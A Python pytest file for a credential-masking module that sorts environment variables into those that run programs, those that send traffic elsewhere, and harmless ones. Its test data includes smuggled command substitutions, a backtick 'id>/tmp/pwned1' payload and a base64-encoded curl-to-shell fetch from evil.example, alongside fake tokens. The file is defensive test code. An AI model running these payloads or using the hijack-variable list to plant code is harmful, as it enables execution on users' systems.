"""Ring 1. What a person is shown of the values of a profile: all but credentials, and what a variable can do (ours)."""

import pytest

from acp_launch.profile.trust import RUNS, SENDS, Shown, content, discreet, power, shown

TOKEN = "ghp_" + "a1B2" * 9
KEY = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n"
RUNNING = """
    BASH_ENV ENV LD_PRELOAD DYLD_INSERT_LIBRARIES NODE_OPTIONS npm_config_script_shell NPM_CONFIG_REGISTRY
    PYTHONSTARTUP PYTHONPATH PIP_INDEX_URL UV_INDEX GIT_SSH_COMMAND GIT_CONFIG_COUNT GIT_ASKPASS SSH_ASKPASS
    PERL5OPT RUBYOPT JAVA_TOOL_OPTIONS DOTNET_STARTUP_HOOKS GOFLAGS RUSTC_WRAPPER MAKEFLAGS EDITOR GH_PAGER
    BROWSER LESSOPEN PATH HOME XDG_CONFIG_HOME KUBECONFIG AWS_CONFIG_FILE CODEX_HOME CLAUDE_CONFIG_DIR
    OPENCODE_CONFIG_CONTENT GEMINI_CLI_TRUST_WORKSPACE RESTIC_PASSWORD_COMMAND OPENSSL_CONF ELECTRON_RUN_AS_NODE
"""
SENDING = """
    ANTHROPIC_BASE_URL OPENAI_BASE_URL OPENAI_API_BASE ANTHROPIC_BEDROCK_BASE_URL HTTP_PROXY https_proxy
    ALL_PROXY GITHUB_API_URL OLLAMA_HOST DOCKER_HOST AWS_ENDPOINT_URL_S3 OTEL_EXPORTER_OTLP_ENDPOINT SENTRY_DSN
    SSL_CERT_FILE NODE_EXTRA_CA_CERTS NODE_TLS_REJECT_UNAUTHORIZED REQUESTS_CA_BUNDLE SSLKEYLOGFILE
    ANTHROPIC_CUSTOM_HEADERS
"""
TELLING = """
    LOG_LEVEL GITHUB_TOKEN LANG TZ PORT DEBUG NODE_ENV PYTHONUNBUFFERED PYTHONUTF8 RUST_LOG NO_COLOR TERM
    AWS_REGION GIT_AUTHOR_NAME GIT_TERMINAL_PROMPT npm_config_loglevel TENANT MEMORY_FILE_PATH ENVIRONMENT
    MY_PATHS
"""


def test_a_variable_that_makes_programs_run_is_known() -> None:
    for variable in RUNNING.split():
        assert power(variable) == RUNS


def test_a_variable_that_sends_credentials_elsewhere_is_known() -> None:
    for variable in SENDING.split():
        assert power(variable) == SENDS


def test_most_variables_only_tell_a_program_something() -> None:
    for variable in TELLING.split():
        assert power(variable) == ""


@pytest.mark.parametrize(
    ("name", "value", "seen"),
    [
        ("T", TOKEN, "***"),
        ("BASH_ENV", f"./{TOKEN}", "./***"),
        ("GITHUB_TOKEN", "not-a-real-one-9f3b27c1e8", "***"),
        ("GITHUB_TOKEN", "${secret:github}", "${secret:github}"),
        ("PASSWORD", "${env:X:-hunter2secret}", "${env:X:-***}"),
        ("HTTPS_PROXY", "http://u:pw12345@proxy", "http://u:***@proxy"),
        ("Authorization", "Bearer abcdefg123456", "Bearer ***"),
        ("JIRA_TOKEN", "changeme", "changeme"),
        ("K", KEY, "***\n"),
        ("", f"curl -H token:{TOKEN}", "curl -H token:***"),
    ],
)
def test_a_credential_is_masked(name: str, value: str, seen: str) -> None:
    assert discreet(value, name) == seen


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("X_TOKEN", "$(./evil1234)"),
        ("X_TOKEN", "`id>/tmp/pwned1`"),
        ("X_PASSWORD_COMMAND", "evilscript1234567890"),
        ("GIT_ASKPASS", "evil-9f3b27c1e8ab"),
        ("NODE_OPTIONS", "--import=Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2gK"),
        ("", "TOKEN=evil9f3b27c1e8; $TOKEN"),
        ("", "export TOKEN=`id>/tmp/pwned1`"),
        ("", "curl https://user:$(evil1)@x"),
        ("", "echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2gK | base64 -d | sh"),
        ("K", KEY.replace("MII", "$(./evil)")),
    ],
)
def test_what_may_run_is_not_masked_for_its_looks(name: str, value: str) -> None:
    assert discreet(value, name) == value


def test_a_line_says_what_its_variable_can_do() -> None:
    said = content(
        {
            "agent": {"command": "x", "args": ["BASH_ENV"], "env": {"BASH_ENV": "./x", "odd: name": TOKEN, TOKEN: ""}},
            "session": {"config": {"env": "x", "agent.env.PATH": "y"}},
            "mcp_servers": {
                "a.b": {"env": {"PATH": "a: b"}, "cwd": "c"},
                'q"': {"headers": {"PATH": "h", "Authorization": "Bearer abcdefg123456"}},
            },
        }
    )
    assert list(map(shown, said)) == [
        Shown("agent.args[0]", '"BASH_ENV"'),
        Shown("agent.command", '"x"'),
        Shown("agent.env.BASH_ENV", '"./x"', RUNS),
        Shown("agent.env.***", '""'),
        Shown('agent.env."odd: name"', '"***"'),
        Shown('mcp_servers."a.b".cwd', '"c"'),
        Shown('mcp_servers."a.b".env.PATH', '"a: b"', RUNS),
        Shown('mcp_servers."q\\"".headers.Authorization', '"Bearer ***"'),
        Shown('mcp_servers."q\\"".headers.PATH', '"h"'),
        Shown('session.config."agent.env.PATH"', '"y"'),
        Shown("session.config.env", '"x"'),
    ]
    assert str(shown('agent.env.A: "b"')) == 'agent.env.A: "b"'


@pytest.mark.parametrize("line", ["", "agent", 'agent.env.A: "***', "agent.env.A: ***", "x: {", "agent.env.A: 1"])
def test_a_line_of_an_older_acceptance_is_shown_as_it_is(line: str) -> None:
    assert str(shown(line)) == line
